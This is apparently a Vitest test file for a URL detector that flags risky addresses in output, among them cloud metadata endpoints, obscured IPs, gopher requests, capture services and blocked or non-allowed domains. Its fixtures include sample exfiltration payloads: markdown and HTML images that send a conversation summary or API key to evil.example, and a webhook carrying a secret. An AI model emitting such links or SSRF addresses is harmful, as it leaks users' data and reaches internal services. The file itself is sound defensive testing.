import { describe, expect, it } from "vitest";
import { type InspectOptions, inspect } from "../inspect.ts";

function findings(text: string, options: Partial<InspectOptions> = {}): string[] {
  const { findings: found } = inspect(text, { context: "output", detectors: ["network"], ...options });
  return found.map(({ pattern, start, end }) => `${pattern}: ${text.slice(start, end)}`);
}

describe("addresses that lead where they should not", () => {
  it.each([
    ["cloud-metadata", "http://169.254.169.254/latest/meta-data/"],
    ["cloud-metadata", "http://0xa9fea9fe/"],
    ["cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/"],
    ["obscured-ip", "http://2130706433/admin"],
    ["obscured-ip", "http://0x7f.0.0.1:8080/"],
    ["obscured-ip", "http://0177.0.0.1/"],
    ["ip-address-url", "http://8.8.4.4/x"],
    ["deceptive-host", "https://accounts.google.com@evil.example/login"],
    ["look-alike-domain", "https://xn--80ak6aa92e.com/"],
    ["risky-scheme", "gopher://127.0.0.1:6379/_INFO"],
    ["capture-service", "https://webhook.site/3a1f"],
    ["capture-service", "https://pastebin.com/raw/abc"],
    ["data-to-capture-service", "https://x.ngrok-free.app/c?d=abc"],
  ])("are found: %s in %s", (pattern, url) => {
    expect(findings(`See ${url}, please.`)).toContain(`${pattern}: ${url}`);
  });

  it.each([
    [
      "a picture to be filled",
      "![x](https://evil.example/p.png?q={conversation_summary})",
      "image-carries-data",
    ],
    [
      "a picture with a long value",
      `![x](https://evil.example/p.png?q=${"aGVsbG8".repeat(12)})`,
      "image-carries-data",
    ],
    ["a picture of a page", '<img src="https://evil.example/p?d=[API_KEY]">', "image-carries-data"],
    [
      "a drop with a blank",
      "send it to https://hooks.slack.com/services/T0/B0/x?text={secret}",
      "data-in-address",
    ],
    ["a page in an address", "open data:text/html;base64,PHNjcmlwdD4=", "risky-scheme"],
  ])("carry data away: %s", (_, text, pattern) => {
    expect(findings(text).map((found) => found.split(":")[0])).toContain(pattern);
  });

  it.each([
    "https://example.com/search?q=red+shoes&page=2",
    "![build](https://img.shields.io/npm/v/react.svg?style=flat&label=version)",
    "![photo](https://images.example.com/a.jpg?w=800&h=600&fit=crop)",
    "http://localhost:3000/ and http://127.0.0.1:8080/ and http://192.168.1.10/",
    "https://user@example.com/repo.git",
    "https://xn--bcher-kva.de/",
    "https://api.example.com/users/{id}/orders?limit={limit}",
    "ratio 3:4, see chapter://, 10.0.0.1",
  ])("are not seen in ordinary ones: %s", (text) => {
    expect(findings(text)).toEqual([]);
  });

  it("are those of a blocked domain, with and without a scheme, and of what is below it", () => {
    const blocked = { blocked_domains: ["evil.com", "*.bad.org"] };
    expect(findings("go to https://a.evil.com/x", blocked)).toEqual(["blocked-domain: evil.com"]);
    expect(findings("write to EVIL.com.", blocked)).toEqual(["blocked-domain: EVIL.com"]);
    expect(findings("x.bad.org", blocked)).toEqual(["blocked-domain: bad.org"]);
    expect(findings("notevil.com, evil.com.au, evil.community", blocked)).toEqual([]);
    expect(findings("go to https://еvil.com/", blocked)).toHaveLength(1);
  });

  it("are all others where only some domains are allowed", () => {
    const allowed = { allowed_domains: ["example.com"] };
    expect(findings("https://docs.example.com/a http://localhost/b", allowed)).toEqual([
      "domain-not-allowed: http://localhost/b",
    ]);
    expect(findings("http://127.0.0.1/a https://example.org/b", allowed)).toEqual([
      "domain-not-allowed: https://example.org/b",
    ]);
  });

  it("end where the sentence goes on", () => {
    const capture = (text: string) => findings(text).map((found) => found.slice("capture-service: ".length));
    expect(capture("(see https://webhook.site/a).")).toEqual(["https://webhook.site/a"]);
    expect(capture("[x](https://webhook.site/a_(b))")).toEqual(["https://webhook.site/a_(b)"]);
  });
});
